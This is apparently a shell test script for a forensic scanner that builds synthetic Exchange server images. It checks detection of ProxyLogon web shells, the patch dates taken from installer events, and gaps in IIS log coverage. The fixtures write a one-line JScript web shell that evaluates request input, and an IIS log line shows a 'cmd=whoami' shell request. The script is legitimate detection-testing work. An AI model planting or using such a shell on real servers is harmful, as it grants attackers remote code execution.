#!/bin/sh
# The host part of `exhume scan`, end to end from generated Exchange hosts:
# IIS logs in folders named by applicationHost.config (also on a second
# volume), IIS requests for files the file scan flagged, MsiInstaller
# events that move the patch date, and the warning when the web logs do not
# reach back to the start of the exposure (rules/exposure.tsv).
. "$TOP/tests/lib/tap.sh"

H="$TOP/tests/fixtures/hosts"
E15='\Program%u0020Files\Microsoft\Exchange%u0020Server\V15'
SHELL_JS='<script language="JScript" runat="server">function Page_Load(){eval(Request["pw"],"unsafe");}</script>\r\n'
W3C='#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'

has() {	# has FILE TEXT
	grep -qF -- "$2" "$1"
}

# parts DIR HOST LOGDIR: the hives (SOFTWARE from DIR/software.spec),
# ExSetup.exe and applicationHost.config of fixture HOST in DIR; site 1
# logs to LOGDIR when it is not empty.
parts() {
	mkdir -p "$1"
	"$TOOLS/mkhive" "$H/$2/system.spec" "$1/SYSTEM" &&
	"$TOOLS/mkhive" "$1/software.spec" "$1/SOFTWARE" &&
	"$TOOLS/mkpe" "$(cat "$H/$2/exsetup.version")" "$1/ExSetup.exe" ||
	    return 1
	if [ -n "$3" ]; then
		awk -v d="$3" '{ print }
		    /<site name="Default Web Site" id="1"/ {
		    print "                <logFile directory=\"" d "\" />" }' \
		    "$H/$2/applicationHost.config" >"$1/applicationHost.config"
	else
		cp "$H/$2/applicationHost.config" "$1/"
	fi
}

# system DIR: the spec lines of the system volume from DIR's parts.
system() {
	printf '%s\n' 'file \Windows\System32\config\SYSTEM from:SYSTEM' \
	    'file \Windows\System32\config\SOFTWARE from:SOFTWARE' \
	    'file \Windows\System32\inetsrv\config\applicationHost.config from:applicationHost.config' \
	    'mkdir \inetpub\logs\LogFiles\W3SVC1'
	printf 'file %s\\Bin\\ExSetup.exe from:ExSetup.exe\n' "$E15"
	[ -f "$1/Application.evtx" ] &&
	    printf '%s\n' 'file \Windows\System32\winevt\Logs\Application.evtx from:Application.evtx'
	return 0
}

# --- A: Exchange 2016 CU19 with the March 2021 SU; site 1 logs to
# C:\Logs\IIS; two web shells; an MsiInstaller event for the fixing KB.
A="$TMP/a"
mkdir -p "$A"
cp "$H/e2016-cu19-mar21/software.spec" "$A/"
parts "$A" e2016-cu19-mar21 'C:\Logs\IIS'
ok $? "A: hives, ExSetup.exe and applicationHost.config with C:/Logs/IIS"
printf '%s\n' 'MsiInstaller|Application|1022|4|2021-03-04T01:00:00Z||Microsoft Exchange Server|Security Update (KB5000871)' \
    >"$A/app.spec"
"$TOOLS/mkevtx" "$A/app.spec" "$A/Application.evtx"
{
	printf '%s\n' '#Software: Microsoft Internet Information Services 10.0' \
	    '#Version: 1.0' '#Date: 2021-03-01 00:00:00' "$W3C" \
	    '2021-03-01 00:00:05 10.0.0.5 GET /owa/ - 443 - 10.1.1.1 Mozilla/5.0 - 200 0 0 5' \
	    '2021-03-03 07:10:00 10.0.0.5 POST /owa/auth/x2.aspx - 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 5' \
	    '2021-03-03 07:11:00 10.0.0.5 GET /shell1.aspx cmd=whoami 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 5' \
	    '2021-03-03 07:12:00 10.0.0.5 GET /owa/auth/logon.aspx - 443 - 10.1.1.2 Mozilla/5.0 - 200 0 0 5'
} >"$A/u_ex210301.log"
{
	echo "disk gpt size=64M"
	echo "part ntfs start=2048 size=40M label=SYSTEM"
	system "$A"
	printf '%s\n' 'file \Logs\IIS\W3SVC1\u_ex210301.log from:u_ex210301.log'
	printf 'file %s\\FrontEnd\\HttpProxy\\owa\\auth\\x2.aspx text:%s\n' \
	    "$E15" "$SHELL_JS"
	printf 'file %s\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx text:%s\n' \
	    "$E15" '<%@ Page Language="C#" %>\r\n<html>Outlook</html>\r\n'
	printf 'file \\inetpub\\wwwroot\\shell1.aspx text:%s\n' "$SHELL_JS"
} >"$A/host.spec"
mkimage "$A/host.spec" "$TMP/a.img"
ok $? "A: image built"
IMAGES="$TMP/a.img"

run scan --format jsonl "$TMP/a.img"
cp "$TMP/out" "$TMP/a.jsonl"; cp "$TMP/err" "$TMP/a.err"
[ "$RC" -eq 1 ]; ok $? "A: scan exits 1 (findings)"
python3 - "$TMP/a.jsonl" <<'PY'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding='utf-8')]
req = {r['fields']['cs-uri-stem']: r for r in rows
       if r['check'] == 'iis/flagged-file-request'}
assert set(req) == {'/owa/auth/x2.aspx', '/shell1.aspx'}, sorted(req)
for stem, line in (('/owa/auth/x2.aspx', 6), ('/shell1.aspx', 7)):
    r = req[stem]
    assert r['kind'] == 'log' and r['level'] == 'alert', r
    assert r['file'] == 'C:\\Logs\\IIS\\W3SVC1\\u_ex210301.log', r['file']
    assert r['line'] == line and r['client_ip'] == '203.0.113.9', r
PY
ok $? "A: IIS rows in C:/Logs/IIS request both flagged shells (wwwroot -> /shell1.aspx, owa-auth -> /owa/auth/x2.aspx)"
grep '"check":"iis/flagged-file-request"' "$TMP/a.jsonl" | grep -q 'logon.aspx'
[ $? -ne 0 ]; ok $? "A: the request for the unflagged logon.aspx is no finding"
grep '"check":"logs/coverage-gap"' "$TMP/a.jsonl" >"$TMP/a.gap"
[ "$(wc -l <"$TMP/a.gap")" -eq 1 ] && has "$TMP/a.gap" '"kind":"host"' &&
    has "$TMP/a.gap" '"level":"notice","score":50' &&
    has "$TMP/a.gap" 'exposed to ProxyLogon from 2021-01-03T00:00:00.0000000Z until 2021-03-04T01:00:00.0000000Z; the HttpProxy/IIS logs begin 2021-03-01T00:00:05.0000000Z'
ok $? "A: one coverage gap, ProxyLogon, until the MsiInstaller time of the fix; logs begin 2021-03-01"
has "$TMP/a.err" 'note: log coverage: exposed to ProxyLogon from 2021-01-03'
ok $? "A: and a run note says so"
has "$TMP/a.gap" 'ProxyShell'
[ $? -ne 0 ]; ok $? "A: no gap for ProxyShell: the logs begin before its exploitation"

# --no-logs: the same file findings, no log finding, and the report says so.
run scan --no-logs --format jsonl --out "$TMP/a-nologs" "$TMP/a.img"
python3 - "$TMP/a.jsonl" "$TMP/out" <<'PY'
import json, sys
def rows(p):
    return [json.loads(l) for l in open(p, encoding='utf-8')]
full, nolog = rows(sys.argv[1]), rows(sys.argv[2])
files = lambda rs: sorted((r['path'], r.get('stream'), r['score']) for r in rs
                          if r['kind'] == 'file')
assert files(full) == files(nolog) and files(full), (files(full), files(nolog))
assert not [r for r in nolog if r['kind'] == 'log'], 'log finding with --no-logs'
assert not [r for r in nolog if r['check'] == 'logs/coverage-gap'], 'coverage gap'
PY
ok $? "A --no-logs: the same file findings, no log finding and no coverage gap"
has "$TMP/err" 'note: log analysis not run (--no-logs)' &&
    has "$TMP/a-nologs/report.txt" 'log analysis not run (--no-logs)' &&
    has "$TMP/a-nologs/report.txt" 'No Exchange or IIS log was read.'
ok $? "A --no-logs: stderr and the report say that no log was examined"

run scan "$TMP/a.img"
grep -q '^patch: ProxyLogon: fixed, fix installed 2021-03-04T01:00:00.0000000Z; ' "$TMP/out"
ok $? "A: summary: ProxyLogon fixed, fix installed at the event's time (registry gave the day only)"
grep -q '^log coverage: iis .* 1 files .* 2021-03-01T00:00:05.0000000Z .. 2021-03-03T07:12:00.0000000Z' "$TMP/out"
ok $? "A: summary lists the IIS log coverage"

run scan "$TMP/a.img" --bundle "$TMP/a.zip"
mkdir "$TMP/ax" && (cd "$TMP/ax" && unzip -q ../a.zip acquisition.json)
python3 - "$TMP/ax/acquisition.json" <<'PY'
import json, sys
a = json.load(open(sys.argv[1], encoding='utf-8'))
v = {x['family']: x for x in a['host']['verdicts']}
assert v['ProxyLogon']['verdict'] == 'fixed', v['ProxyLogon']
assert v['ProxyLogon']['fix_installed_since'] == '2021-03-04T01:00:00.0000000Z'
assert any(n.startswith('log coverage: exposed to ProxyLogon') for n in a['run_notes'])
iis = [c for c in a['log_coverage'] if c['family'] == 'iis']
assert iis and iis[0]['first'] == '2021-03-01T00:00:05.0000000Z', a['log_coverage']
PY
ok $? "A: acquisition.json: fix_installed_since from the event, the coverage note and the IIS time span"

# --- B: the same host without the Uninstall entry of the fix: only the
# events date it (a failed 1023 first, then 1022); site 1 logs to
# D:\IISLogs on the second volume.
B="$TMP/b"
mkdir -p "$B"
grep -v 'KB5000871' "$H/e2016-cu19-mar21/software.spec" >"$B/software.spec"
parts "$B" e2016-cu19-mar21 'D:\IISLogs'
ok $? "B: hives without the update entry, site logs on D:"
printf '%s\n' 'MsiInstaller|Application|1023|2|2021-03-08T09:00:00Z||Microsoft Exchange Server|Security Update (KB5000871)|1603' \
    'MsiInstaller|Application|1022|4|2021-03-10T12:00:00Z||Microsoft Exchange Server|Security Update (KB5000871)' \
    >"$B/app.spec"
"$TOOLS/mkevtx" "$B/app.spec" "$B/Application.evtx"
{
	printf '%s\n' '#Software: Microsoft Internet Information Services 10.0' \
	    '#Version: 1.0' '#Date: 2021-03-05 00:00:00' "$W3C" \
	    '2021-03-05 08:00:00 10.0.0.5 GET /owa/ - 443 - 10.1.1.1 Mozilla/5.0 - 200 0 0 5' \
	    '2021-03-05 08:01:00 10.0.0.5 POST /owa/auth/x2.aspx - 443 - 198.51.100.7 Mozilla/5.0 - 200 0 0 5'
} >"$B/u_ex210305.log"
{
	echo "disk gpt size=80M"
	echo "part ntfs start=2048 size=40M label=SYSTEM"
	system "$B"
	printf 'file %s\\FrontEnd\\HttpProxy\\owa\\auth\\x2.aspx text:%s\n' \
	    "$E15" "$SHELL_JS"
	echo "part ntfs start=86016 size=16M label=DATA"
	printf '%s\n' 'file \IISLogs\W3SVC1\u_ex210305.log from:u_ex210305.log'
} >"$B/host.spec"
mkimage "$B/host.spec" "$TMP/b.img"
ok $? "B: two-volume image built"
IMAGES="$TMP/b.img"

run scan --format jsonl --letter 2=D "$TMP/b.img"
cp "$TMP/out" "$TMP/b.jsonl"
grep '"check":"iis/flagged-file-request"' "$TMP/b.jsonl" |
    grep -q '"file":"D:\\\\IISLogs\\\\W3SVC1\\\\u_ex210305.log","line":6'
ok $? "B: the IIS log on D:/IISLogs is read; the shell request there is found"
grep '"check":"logs/coverage-gap"' "$TMP/b.jsonl" |
    grep -q 'exposed to ProxyLogon from 2021-01-03T00:00:00.0000000Z until 2021-03-10T12:00:00.0000000Z; the HttpProxy/IIS logs begin 2021-03-05T08:00:00.0000000Z'
ok $? "B: the gap runs to the 1022 event (not the failed 1023); logs begin on D:"

run scan --letter 2=D "$TMP/b.img"
grep -q '^patch: ProxyLogon: fixed, fix installed 2021-03-10T12:00:00.0000000Z; ' "$TMP/out"
ok $? "B: summary: the event dates a fix the registry did not list"

# Logs and event logs are read on several threads: the result must not
# depend on how many.
run scan --letter 2=D "$TMP/b.img" --threads 1 --out "$TMP/b1"
run scan --letter 2=D "$TMP/b.img" --threads 3 --out "$TMP/b3"
cmp -s "$TMP/b1/findings.jsonl" "$TMP/b3/findings.jsonl" &&
    cmp -s "$TMP/b1/summary.txt" "$TMP/b3/summary.txt"
ok $? "B: --threads 1 and 3 give the same log findings, coverage and notes"

run scan "$TMP/b.img" --volume 1
grep -q 'note: IIS site Default Web Site logs to D:\\IISLogs\\W3SVC1, which is on no opened volume' "$TMP/err"
ok $? "B: a log folder on a volume that was not opened is a run note"

# --- C: Exchange 2013 CU23 without the SU and no web logs at all.
C="$TMP/c"
mkdir -p "$C"
cp "$H/e2013-cu23-nosu/software.spec" "$C/"
parts "$C" e2013-cu23-nosu ''
{
	echo "disk gpt size=64M"
	echo "part ntfs start=2048 size=24M label=SYSTEM"
	system "$C"
} >"$C/host.spec"
mkimage "$C/host.spec" "$TMP/c.img"
ok $? "C: image built"
IMAGES="$TMP/c.img"
run scan --format jsonl "$TMP/c.img"
grep '"check":"logs/coverage-gap"' "$TMP/out" |
    grep -q 'exposed to ProxyLogon from 2021-01-03T00:00:00.0000000Z until [0-9T:.-]*Z; no HttpProxy/IIS log rows were found: exploitation cannot be ruled out from the logs'
ok $? "C: still vulnerable and no web logs: coverage gap until now"
grep -q 'note: log coverage: exposed to ProxyLogon' "$TMP/err"
ok $? "C: and the run note"

report_unchanged
done_testing
